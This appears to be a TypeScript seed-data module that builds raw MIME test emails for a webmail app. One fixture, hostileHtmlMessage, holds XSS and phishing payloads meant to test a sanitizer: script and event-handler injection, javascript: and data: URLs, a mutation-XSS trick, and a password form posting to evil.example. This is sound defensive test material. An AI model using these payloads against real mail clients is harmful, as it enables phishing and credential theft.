// Part of scripts/seed-lib.ts (deterministic raw-message generators): see there.
import { base64Lines, CRLF, encodeQuotedPrintable, encodeWordQ, encodeWords, formatAddress, formatAddresses, isAscii, messageId, toCrlf, type Address, type AddressInput } from './encoding';
import { rfc2822Date, SEED_EPOCH } from './rng';
import { tinyPng } from './binary';

export interface Attachment {
  filename: string;
  contentType: string;
  content: Buffer | string;
  /** Set for inline parts referenced from HTML as cid:<contentId> */
  contentId?: string;
  inline?: boolean;
}

export interface MessageOptions {
  from: AddressInput;
  to: AddressInput | AddressInput[];
  cc?: AddressInput | AddressInput[];
  replyTo?: AddressInput;
  subject: string;
  date: Date;
  /** Stable key for a deterministic Message-ID (default: subject + date). Or pass messageId. */
  key?: string;
  messageId?: string;
  inReplyTo?: string;
  references?: string[];
  text?: string;
  html?: string;
  attachments?: Attachment[];
  /** Extra headers, added verbatim (values must already be encoded). */
  headers?: Record<string, string>;
  /** Body transfer encoding for text parts (default: 7bit for ASCII, quoted-printable otherwise). */
  textEncoding?: 'quoted-printable' | 'base64' | '8bit';
  /** Encode non-ASCII subjects with Q instead of B encoded-words. */
  qEncodeSubject?: boolean;
}

/** Boundaries derived from the message key: deterministic and unique per message. */
function boundaryFor(key: string, n: number): string {
  const id = messageId(key + '#' + n).replace(/[<>@.]/g, '');
  return `----=_mailroom_${n}_${id.slice(-16)}`;
}

function headerBlock(o: MessageOptions, contentHeaders: string[]): string {
  const h: string[] = [];
  h.push(`Date: ${rfc2822Date(o.date)}`);
  h.push(`From: ${formatAddress(o.from)}`);
  h.push(`To: ${formatAddresses(o.to)}`);
  if (o.cc) h.push(`Cc: ${formatAddresses(o.cc)}`);
  if (o.replyTo) h.push(`Reply-To: ${formatAddress(o.replyTo)}`);
  h.push(`Subject: ${o.qEncodeSubject ? encodeWordQ(o.subject) : encodeWords(o.subject)}`);
  h.push(`Message-ID: ${o.messageId ?? messageId(o.key ?? `${o.subject}|${o.date.toISOString()}`)}`);
  if (o.inReplyTo) h.push(`In-Reply-To: ${o.inReplyTo}`);
  if (o.references?.length) h.push(`References: ${o.references.join(`${CRLF} `)}`);
  for (const [k, v] of Object.entries(o.headers ?? {})) h.push(`${k}: ${v}`);
  h.push('MIME-Version: 1.0');
  h.push(...contentHeaders);
  return h.join(CRLF) + CRLF + CRLF;
}

function textPart(body: string, subtype: 'plain' | 'html', encoding?: MessageOptions['textEncoding']): { headers: string[]; body: string } {
  const ascii = isAscii(body);
  const enc = encoding ?? (ascii ? '7bit' : 'quoted-printable');
  const headers = [`Content-Type: text/${subtype}; charset=utf-8`, `Content-Transfer-Encoding: ${enc}`];
  let encoded: string;
  if (enc === 'quoted-printable') encoded = encodeQuotedPrintable(body);
  else if (enc === 'base64') encoded = base64Lines(Buffer.from(body, 'utf8'));
  else encoded = toCrlf(body);
  return { headers, body: encoded };
}

function attachmentPart(a: Attachment): { headers: string[]; body: string } {
  const content = typeof a.content === 'string' ? Buffer.from(a.content, 'utf8') : a.content;
  const name = encodeWords(a.filename);
  const headers = [
    `Content-Type: ${a.contentType}; name="${name}"`,
    'Content-Transfer-Encoding: base64',
    `Content-Disposition: ${a.inline ? 'inline' : 'attachment'}; filename="${name}"`,
  ];
  if (a.contentId) headers.push(`Content-ID: <${a.contentId}>`);
  return { headers, body: base64Lines(content) };
}

type Part = { headers: string[]; body: string };
function multipart(subtype: string, boundary: string, parts: Part[], extra = ''): Part {
  const body =
    'This is a multi-part message in MIME format.' +
    CRLF +
    parts.map((p) => `${CRLF}--${boundary}${CRLF}${p.headers.join(CRLF)}${CRLF}${CRLF}${p.body}`).join('') +
    `${CRLF}--${boundary}--${CRLF}`;
  return { headers: [`Content-Type: multipart/${subtype}; boundary="${boundary}"${extra}`], body };
}

function build(o: MessageOptions, part: Part): Buffer {
  return Buffer.from(headerBlock(o, part.headers) + part.body + (part.body.endsWith(CRLF) ? '' : CRLF), 'utf8');
}

/** Crude HTML -> text for the text/plain alternative. */
export function htmlToText(html: string): string {
  return html
    .replace(/<style[\s\S]*?<\/style>/gi, '')
    .replace(/<(br|\/p|\/tr|\/h[1-6]|\/li|\/div)\b[^>]*>/gi, '\n')
    .replace(/<\/t[dh]>/gi, ' ')
    .replace(/<[^>]+>/g, '')
    .replace(/&nbsp;/g, ' ')
    .replace(/&amp;/g, '&')
    .replace(/&lt;/g, '<')
    .replace(/&gt;/g, '>')
    .replace(/[ \t]+\n/g, '\n')
    .replace(/\n{3,}/g, '\n\n')
    .trim();
}

/** text/plain message. */
export function plainMessage(o: MessageOptions & { text: string }): Buffer {
  return build(o, textPart(o.text, 'plain', o.textEncoding));
}

/** multipart/alternative (text + HTML). */
export function htmlMessage(o: MessageOptions & { html: string }): Buffer {
  const key = o.key ?? o.subject;
  const text = o.text ?? htmlToText(o.html);
  return build(o, multipart('alternative', boundaryFor(key, 1), [textPart(text, 'plain', o.textEncoding), textPart(o.html, 'html', o.textEncoding)]));
}

/** multipart/mixed: text (or text+HTML alternative) + attachments. */
export function attachmentMessage(o: MessageOptions & { attachments: Attachment[] }): Buffer {
  const key = o.key ?? o.subject;
  const bodyPart = o.html
    ? multipart('alternative', boundaryFor(key, 2), [textPart(o.text ?? htmlToText(o.html), 'plain'), textPart(o.html, 'html')])
    : textPart(o.text ?? '', 'plain', o.textEncoding);
  return build(o, multipart('mixed', boundaryFor(key, 1), [bodyPart, ...o.attachments.map(attachmentPart)]));
}

/**
 * HTML with an inline image: multipart/related (alternative(text, html), image) where the HTML
 * shows <img src="cid:...">. Defaults to a real tiny PNG.
 */
export function inlineImageMessage(o: MessageOptions & { html?: string; image?: Buffer; contentId?: string }): Buffer {
  const key = o.key ?? o.subject;
  const cid = o.contentId ?? `logo.${messageId(key).slice(1, 12)}@example.test`;
  const html =
    o.html ??
    `<html><body style="font-family:Arial,sans-serif">
<p>Here is the new logo, inline:</p>
<p><img src="cid:${cid}" alt="Mailroom logo" width="64" height="64" style="border:1px solid #ccc"></p>
<p>Let me know what you think!</p>
</body></html>`;
  const related = multipart(
    'related',
    boundaryFor(key, 1),
    [
      multipart('alternative', boundaryFor(key, 2), [textPart(o.text ?? htmlToText(html), 'plain'), textPart(html, 'html')]),
      attachmentPart({ filename: 'logo.png', contentType: 'image/png', content: o.image ?? tinyPng(64, 64), contentId: cid, inline: true }),
    ],
    '; type="multipart/alternative"',
  );
  return build(o, related);
}

const DEFAULT_FROM: Address = { name: 'Mallory Sender', address: 'mallory@evil.example' };
const DEFAULT_TO: Address = { name: 'Alice Example', address: 'alice@example.test' };

/** HTML that loads a remote tracking image (for "block remote images" behaviour). */
export function remoteImageMessage(o: Partial<MessageOptions> = {}): Buffer {
  const html = `<html><body>
<h2 style="color:#1d4ed8">Your October statement is ready</h2>
<p>Hi Alice, your monthly statement is available in your account.</p>
<p><img src="https://tracker.example.com/pixel.png?u=alice&amp;c=oct" width="1" height="1" alt=""></p>
<p><img src="https://cdn.example.com/banner.jpg" alt="Banner" width="600" height="120"></p>
<p>— The Example Bank team</p>
</body></html>`;
  return htmlMessage({
    from: { name: 'Example Bank', address: 'statements@bank.example.com' },
    to: DEFAULT_TO,
    subject: 'Your October statement is ready',
    date: SEED_EPOCH,
    ...o,
    html,
  });
}

/** HTML full of things a webmail sanitizer must neutralise (scripts, handlers, javascript: URLs...). */
export function hostileHtmlMessage(o: Partial<MessageOptions> = {}): Buffer {
  const html = `<!DOCTYPE html>
<html><head>
<meta http-equiv="refresh" content="0;url=https://evil.example/phish">
<base href="https://evil.example/">
<style>body { background: url("javascript:alert('css')"); } .x { behavior: url(x.htc); width: expression(alert(1)); }</style>
<script>window.parent.postMessage('pwned', '*'); document.cookie = 'stolen=1';</script>
<link rel="stylesheet" href="https://evil.example/track.css">
</head>
<body onload="alert('onload')">
<h1>You won a prize!</h1>
<p><a href="javascript:alert('link')">Claim now</a> or <a href="https://evil.example/claim" target="_self">here</a></p>
<img src="x" onerror="alert('img-onerror')">
<img src="https://tracker.example.com/pixel.png?u=hostile" width="1" height="1">
<svg onload="alert('svg')"><script>alert('svg-script')</script></svg>
<iframe src="https://evil.example/frame" width="300" height="200"></iframe>
<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">
<form action="https://evil.example/steal" method="post"><input name="password" type="password"><button>Log in</button></form>
<div style="position:fixed;top:0;left:0;width:100%;height:100%;background:red" onclick="alert('overlay')">overlay</div>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data link</a>
<math><mtext><table><mglyph><style><img src=x onerror="alert('mxss')"></style></mglyph></table></mtext></math>
</body></html>`;
  return htmlMessage({
    from: DEFAULT_FROM,
    to: DEFAULT_TO,
    subject: 'You won a prize! (hostile HTML test)',
    date: SEED_EPOCH,
    ...o,
    html,
    text: 'You won a prize! (this message contains hostile HTML for sanitizer tests)',
  });
}

/**
 * A deliberately broken message: no Date/Message-ID/From/To headers, a header line without a
 * colon, a multipart body whose declared boundary never terminates properly, a part with invalid
 * base64, an unknown charset and a truncated nested multipart.
 */
export function malformedMessage(o: { subject?: string } = {}): Buffer {
  const raw = [
    `Subject: ${o.subject ?? 'Malformed message (broken MIME)'}`,
    'MIME-Version: 1.0',
    'X-Broken-Header-Without-Colon',
    'Content-Type: multipart/mixed; boundary="declared-boundary"',
    '',
    'Preamble text.',
    '--declared-boundary',
    'Content-Type: text/plain; charset=x-unknown-charset',
    'Content-Transfer-Encoding: quoted-printable',
    '',
    'Broken soft break =',
    'and an invalid escape =ZZ here, and a lone =',
    '--declared-boundary',
    'Content-Type: application/octet-stream; name="broken.bin"',
    'Content-Transfer-Encoding: base64',
    'Content-Disposition: attachment; filename="broken.bin"',
    '',
    'This is *not* valid base64!!! @@@ ===',
    'SGVsbG8gd29ybGQ',
    '--declared-boundary',
    'Content-Type: multipart/alternative; boundary="never-closed"',
    '',
    '--never-closed',
    'Content-Type: text/html; charset=utf-8',
    '',
    '<p>Unclosed <b>html <i>in a multipart that never ends',
    '--wrong-boundary--',
    '',
  ].join(CRLF);
  return Buffer.from(raw, 'utf8');
}
